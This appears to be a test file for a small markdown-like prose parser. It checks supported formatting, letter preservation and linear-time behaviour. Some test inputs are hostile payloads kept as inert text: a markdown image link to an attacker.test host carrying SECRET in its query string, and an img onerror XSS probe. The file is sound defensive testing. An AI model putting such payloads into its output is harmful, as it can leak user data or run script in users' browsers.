import { expect } from "chai";
import fc from "fast-check";
import { blocksOf } from "../../widget/prose.ts";
import type { Block } from "../../widget/prose.ts";

const textOf = (blocks: readonly Block[]): string =>
  blocks
    .flatMap((block) => (block.kind === "paragraph" ? [block.spans] : block.items))
    .map((spans) => spans.map(({ text }) => text).join(""))
    .join("\n");

const CHARS = Array.from("ab <>!*_`-1.)\n•[](");

describe("prose", () => {
  it("knows paragraph, list, code, strong and emphasis", () => {
    expect(
      blocksOf("One **two** `three`\nfour _five_ *six*.\n\n- a\n- b\n  goes on\n\n1. c"),
    ).to.deep.equal([
      {
        kind: "paragraph",
        spans: [
          { kind: "text", text: "One " },
          { kind: "strong", text: "two" },
          { kind: "text", text: " " },
          { kind: "code", text: "three" },
          { kind: "text", text: " four " },
          { kind: "emphasis", text: "five" },
          { kind: "text", text: " " },
          { kind: "emphasis", text: "six" },
          { kind: "text", text: "." },
        ],
      },
      {
        kind: "list",
        ordered: false,
        items: [[{ kind: "text", text: "a" }], [{ kind: "text", text: "b goes on" }]],
      },
      { kind: "list", ordered: true, items: [[{ kind: "text", text: "c" }]] },
    ]);
  });

  for (const text of [
    "![x](https://attacker.test/p.png?q=SECRET)",
    "[a](https://attacker.test/)",
    "<img src=x onerror=alert(1)>",
    "# Package says",
    "[ref]: https://attacker.test/",
    "<https://attacker.test/>",
    "a | b\n--- | ---",
    "snake_case_name and 2*3*4 and 5 * 6 * 7",
  ]) {
    it(`leaves ${JSON.stringify(text)} as text`, () => {
      expect(textOf(blocksOf(text))).to.equal(text.replace("\n", " "));
    });
  }

  it("loses no letter of any text", () => {
    const letters = (text: string) => text.replace(/[\s*_`•\-.)\d]/g, "");
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...CHARS) }), (text) => {
        expect(letters(textOf(blocksOf(text)))).to.equal(letters(text));
      }),
    );
  });

  for (const unit of ["*", "**", "`", "_a", "*a", "- ", "**a*", "`a\n", "1. ", "\n", " ", "a_"]) {
    it(`takes time linear in ${JSON.stringify(unit)} repeated`, () => {
      const started = performance.now();
      blocksOf(unit.repeat(50_000));
      expect(performance.now() - started).to.be.below(1000);
    });
  }
});
